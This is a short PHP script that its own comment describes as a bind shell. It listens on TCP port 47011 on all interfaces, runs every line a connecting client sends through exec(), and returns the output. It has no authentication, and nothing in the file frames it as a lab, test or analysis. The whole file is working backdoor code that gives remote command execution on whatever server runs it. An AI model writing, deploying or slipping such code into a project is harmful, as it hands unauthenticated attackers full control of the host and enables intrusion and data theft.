<?php
// Listens on a high port; each client that connects sends command lines and gets their output
// back (a bind shell built from the sockets extension).
set_time_limit(0);
$srv = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_bind($srv, '0.0.0.0', 47011);
socket_listen($srv, 1);
while ($client = socket_accept($srv)) {
    while (($line = socket_read($client, 4096, PHP_NORMAL_READ)) !== false) {
        $line = trim($line);
        if ($line === 'quit') {
            break;
        }
        $reply = array();
        exec($line . ' 2>&1', $reply);
        socket_write($client, implode("\n", $reply) . "\n");
    }
    socket_close($client);
}
